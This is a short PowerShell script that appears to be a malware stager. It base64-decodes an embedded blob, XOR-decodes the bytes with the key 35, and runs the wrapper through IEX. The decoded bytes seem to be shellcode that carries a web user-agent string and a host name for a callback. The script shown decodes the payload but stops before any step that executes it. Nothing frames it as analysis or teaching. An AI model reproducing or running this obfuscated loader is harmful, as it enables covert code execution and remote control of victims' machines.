Set-StrictMode -Version 2
$DoIt = @'
[Byte[]]$var_code = [System.Convert]::FromBase64String('38uqIyMjS5giIyNwc0t0qrzl3PZLIxHDpwxkW1pZI3ZQRlEOYkRGTVcZA25MWUpPT0IMFg0TAwtATE5TQldKQU9GGANucGpmAxoNEwouKSNAR00NRltCTlNPRg1ATE4j')
for ($x = 0; $x -lt $var_code.Count; $x++) { $var_code[$x] = $var_code[$x] -bxor 35 }
'@
IEX $DoIt
